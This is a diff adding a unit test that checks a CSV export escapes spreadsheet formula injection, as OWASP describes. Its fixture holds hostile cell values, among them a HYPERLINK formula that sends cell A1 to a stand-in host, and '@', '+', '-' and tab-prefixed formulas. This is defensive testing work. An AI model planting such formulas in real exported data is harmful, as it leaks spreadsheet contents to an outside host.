@@ -99,6 +99,32 @@ describe('exports', () => {
     expect(summary.summary.total.errors).toBe(1);
   });
 
+  it('neutralises CSV cells a spreadsheet would run as formulas (OWASP), keeps numbers', () => {
+    const base = results[0]!;
+    const hostile = [
+      '=HYPERLINK("http://x/?"&A1,"click")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+    ];
+    const csv = toCsv(
+      hostile.map((response, k) => ({
+        ...base,
+        sampleId: k === 0 ? '=1+1' : `s${k}`,
+        response,
+        letterLogprobs: [-1.5, -2, -3, -4] as [number, number, number, number],
+      })),
+    );
+    const rows = csv.trimEnd().split('\r\n').slice(1);
+    rows.forEach((row, k) => {
+      expect(row.endsWith(`,"'${hostile[k]!.replace(/"/g, '""')}"`), row).toBe(true);
+      expect(row).toContain(',-1.5,-2,-3,-4,');
+    });
+    expect(rows[0]!.startsWith(`"'=1+1",`)).toBe(true);
+  });
+
   it('reports bad lines of an imported results file', () => {
     const r = parseOfficialResults(
       'py.jsonl',
